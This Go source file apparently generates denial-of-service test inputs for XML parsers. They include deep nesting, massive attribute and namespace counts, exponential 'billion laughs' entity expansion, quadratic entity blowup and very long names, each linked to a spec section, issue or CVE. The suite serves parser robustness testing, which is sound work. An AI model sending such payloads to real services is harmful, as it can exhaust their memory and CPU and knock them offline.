package attacks

const xmlSpec = "https://www.w3.org/TR/xml/"

// xml has values that are whole documents, too: an element a. Field names that element, and encloses it
// in another.
func xml() Attacks {
	const (
		deep       = "https://github.com/golang/go/issues/81181"
		attributes = "https://github.com/tafia/quick-xml/issues/969"
		laughs     = "https://github.com/redhat-developer/vscode-xml/issues/476"
	)
	return Attacks{
		Values: []Attack{
			{"n elements, nested", Levels, nested("<a>", "<a>", "", "</a>", "</a>"), deep},
			{"n elements of another name space, nested", Levels, nested("<a>", `<a xmlns="b">`, "", "</a>", "</a>"), "https://www.w3.org/TR/xml-names/#scoping"},
			{"n empty elements", Size, many("<a>", "<a/>", "</a>"), xmlSpec + "#sec-starttags"},
			{"n elements", Size, different("<a>", xmlElement, "</a>"), xmlSpec + "#sec-starttags"},
			{"element with one attribute n times", Size, many("<a", ` b=""`, "></a>"), xmlSpec + "#uniqattspec"},
			{"element with n attributes", Size, different("<a", xmlAttribute, "></a>"), attributes},
			{"element with n name spaces", Size, different("<a", xmlNamespace, "></a>"), "https://github.com/RazrFalcon/roxmltree/issues/153"},
			{"n references to characters", Size, many("<a>", "&#65;", "</a>"), xmlSpec + "#sec-references"},
			{"reference to the character n", Claimed, claim("<a>&#", decimal, ";</a>"), xmlSpec + "#sec-references"},
			{"n comments", Size, many("<a>", "<!---->", "</a>"), xmlSpec + "#sec-comments"},
			{"n processing instructions", Size, many("<a>", "<?b?>", "</a>"), xmlSpec + "#sec-pi"},
			{"n sections of character data", Size, many("<a>", "<![CDATA[a]]>", "</a>"), xmlSpec + "#sec-cdata-sect"},
			{"number of n digits", Size, many("<a>", "9", "</a>"), xmlSpec + "#syntax"},
			{"number with the exponent n", Claimed, claim("<a>1e", decimal, "</a>"), xmlSpec + "#syntax"},
		},
		Whole: []Attack{
			{"n elements, nested and never closed", Levels, many("", "<a>", ""), "https://github.com/pupnp/pupnp/issues/249"},
			{"n entities, each of which has ten times the one before", Levels, xmlEntities(10), laughs},
			{"n entities, each of which has the one before", Levels, xmlEntities(1), "https://nvd.nist.gov/vuln/detail/CVE-2024-8176"},
			{"entity of n letters, used n times", Size, xmlQuadratic, xmlSpec + "#sec-internal-ent"},
			{"declaration of an element with n groups, nested", Levels, nested("<!DOCTYPE a [<!ELEMENT a ", "(", "b", ")", ">]><a></a>"), "https://github.com/libexpat/libexpat/pull/558"},
			{"element with a name of n letters", Size, xmlName, xmlSpec + "#NT-Name"},
		},
		Nest: xmlNest(),
		Field: func(k Key, v Input) Input {
			v = replaced(v, 2, []byte("<a><"+k.Name)...)
			return Join(shortened(v, len("a>")), Of(k.Name+"></a>"))
		},
	}
}

// xmlEntities makes a document with no more entities than mostSized: each has a name of its own.
func xmlEntities(times int) func(int) Input {
	return func(n int) Input {
		n = min(n, mostSized)
		end := append(decimal([]byte("]><a>&e"), n), ";</a>"...)
		return different(`<!DOCTYPE a [<!ENTITY e0 "0123456789">`, func(b []byte, i int) []byte {
			b = append(decimal(append(b, "<!ENTITY e"...), i+1), ` "`...)
			for range times {
				b = append(decimal(append(b, "&e"...), i), ';')
			}
			return append(b, `">`...)
		}, string(end))(n)
	}
}

func xmlQuadratic(n int) Input {
	return Join(Of(`<!DOCTYPE a [<!ENTITY e "`), Repeat("a", n), Of(`">]><a>`), Repeat("&e;", n), Of("</a>"))
}

func xmlName(n int) Input {
	return Join(Of("<"), Repeat("a", n), Of("></"), Repeat("a", n), Of(">"))
}

func xmlElement(b []byte, i int) []byte { return append(decimal(append(b, "<a"...), i), "/>"...) }

func xmlAttribute(b []byte, i int) []byte { return append(decimal(append(b, " b"...), i), `=""`...) }

func xmlNamespace(b []byte, i int) []byte {
	return append(decimal(append(b, " xmlns:b"...), i), `="b"`...)
}
